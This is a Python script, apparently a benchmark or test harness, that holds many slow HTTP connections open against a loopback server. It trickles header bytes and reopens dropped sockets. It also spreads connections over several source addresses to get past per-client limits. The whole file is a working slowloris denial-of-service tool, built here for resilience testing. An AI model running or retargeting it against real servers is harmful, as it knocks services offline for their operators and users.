"""Hold COUNT slow connections open against a server on loopback.

  slowloris_clients.py PORT [--count 1000] [--interval 3] [--sources 8]
                       [--max-seconds 600] [--ready FILE]

Each connection sends a request line and then one header byte every
--interval seconds, never finishing the header block.  A connection the
server closes is opened again, so COUNT stay open.  The connections come
from --sources loopback addresses (127.0.0.2, 127.0.0.3, ...) so a
per-client-address cap does not hide the attack or lock out the measuring
client on 127.0.0.1.  --ready FILE is written once all COUNT are connected.
SIGTERM or SIGINT (or --max-seconds) ends it with a one-line summary.
"""

import argparse
import errno
import heapq
import selectors
import signal
import socket
import sys
import time

TRICKLE = b"X-Slow: " + b"a" * 64 + b"\r\n"


class Conn:
    __slots__ = ("sock", "src", "sent", "next_at", "connected", "gone")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("port", type=int)
    ap.add_argument("--count", type=int, default=1000)
    ap.add_argument("--interval", type=float, default=3.0)
    ap.add_argument("--sources", type=int, default=8)
    ap.add_argument("--max-seconds", type=float, default=600)
    ap.add_argument("--ready")
    a = ap.parse_args()

    stop = []
    for s in (signal.SIGTERM, signal.SIGINT):
        signal.signal(s, lambda *_: stop.append(1))

    sel = selectors.DefaultSelector()
    conns = {}
    due = []            # heap of (next_at, seq, Conn): the next byte to send
    seq = [0]
    n_connected = [0]
    stats = {"opened": 0, "closed_by_server": 0, "connect_errors": 0,
             "bytes": 0}
    t0 = time.monotonic()
    ready_written = False

    def open_one(i):
        c = Conn()
        c.src = f"127.0.0.{2 + i % a.sources}"
        c.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        c.sock.setblocking(False)
        c.sock.bind((c.src, 0))
        err = c.sock.connect_ex(("127.0.0.1", a.port))
        if err not in (0, errno.EINPROGRESS):
            stats["connect_errors"] += 1
            c.sock.close()
            return None
        c.sent = 0
        c.connected = False
        c.gone = False
        # Spread the trickle so the writes do not come in bursts.
        c.next_at = time.monotonic() + a.interval * (i % 100) / 100
        sel.register(c.sock, selectors.EVENT_WRITE | selectors.EVENT_READ, c)
        conns[c.sock.fileno()] = c
        stats["opened"] += 1
        return c

    def drop(c):
        sel.unregister(c.sock)
        del conns[c.sock.fileno()]
        c.sock.close()
        c.gone = True
        if c.connected:
            n_connected[0] -= 1

    for i in range(a.count):
        open_one(i)

    while not stop and time.monotonic() - t0 < a.max_seconds:
        wait = due[0][0] - time.monotonic() if due else 0.5
        for key, ev in sel.select(timeout=min(0.5, max(0.005, wait))):
            c = key.data
            if ev & selectors.EVENT_READ:
                try:
                    data = c.sock.recv(4096)
                except OSError:
                    data = b""
                if not data:
                    stats["closed_by_server"] += 1
                    drop(c)
                    continue
            if ev & selectors.EVENT_WRITE and not c.connected:
                if c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    stats["connect_errors"] += 1
                    drop(c)
                    continue
                c.connected = True
                n_connected[0] += 1
                c.sock.send(b"GET /slow HTTP/1.1\r\nHost: bench\r\n")
                sel.modify(c.sock, selectors.EVENT_READ, c)
                seq[0] += 1
                heapq.heappush(due, (c.next_at, seq[0], c))
        now = time.monotonic()
        while due and due[0][0] <= now:
            _, _, c = heapq.heappop(due)
            if c.gone:
                continue
            try:
                c.sock.send(TRICKLE[c.sent % len(TRICKLE):][:1])
                c.sent += 1
                stats["bytes"] += 1
            except OSError:
                stats["closed_by_server"] += 1
                drop(c)
                continue
            c.next_at = now + a.interval
            seq[0] += 1
            heapq.heappush(due, (c.next_at, seq[0], c))
        i = 0
        while len(conns) < a.count and not stop:
            if open_one(i) is None:
                break
            i += 1
        if not ready_written and a.ready and n_connected[0] >= a.count:
            with open(a.ready, "w") as f:
                f.write("ready\n")
            ready_written = True

    open_now = n_connected[0]
    print(f"slowloris: {a.count} wanted, {open_now} open at the end, "
          f"{stats['opened']} opened in all, "
          f"{stats['closed_by_server']} closed by the server, "
          f"{stats['connect_errors']} connect errors, "
          f"{stats['bytes']} header bytes trickled in "
          f"{time.monotonic() - t0:.0f}s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
